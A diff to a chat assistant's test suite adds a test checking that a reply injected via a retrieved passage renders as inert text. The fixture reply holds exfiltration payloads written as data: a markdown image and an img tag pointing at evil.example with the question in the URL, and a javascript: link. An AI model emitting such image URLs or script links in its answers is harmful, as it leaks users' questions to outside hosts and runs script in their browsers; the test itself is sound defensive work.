@@ -136,3 +136,19 @@ def test_failed_rewrite_falls_back_to_the_heuristic(qa, llm):
 def test_no_rewrite_without_history(qa, llm):
     llm_qa(qa, llm).ask(GUIDING_VI)
     assert not _rewrites(llm)
+
+
+def test_an_injected_reply_renders_inert_in_the_chat(qa, llm):
+    """A passage that talked the model into an image whose URL carries the question: the chat shows
+    the reply as text (no image, no link), the [n] citation stays."""
+    from markdown_it import MarkdownIt
+
+    from assistant.chat import stream_answer
+
+    llm.reply = ("Nhiệm vụ đã giao [1]. ![x](https://evil.example/leak?q=nhiem-vu) "
+                 "<img src=https://evil.example/a> [bấm](javascript:alert(1)) https://evil.example/b")
+    final = list(stream_answer(llm_qa(qa, llm), GUIDING_VI, [], 5, "vi", "llm"))[-1]
+    shown = final[1]["content"]
+    rendered = MarkdownIt("commonmark").enable("table").render(shown)
+    assert "<img" not in rendered and "<a " not in rendered and "[1]" in rendered
+    assert "evil.example" in rendered  # shown, as text
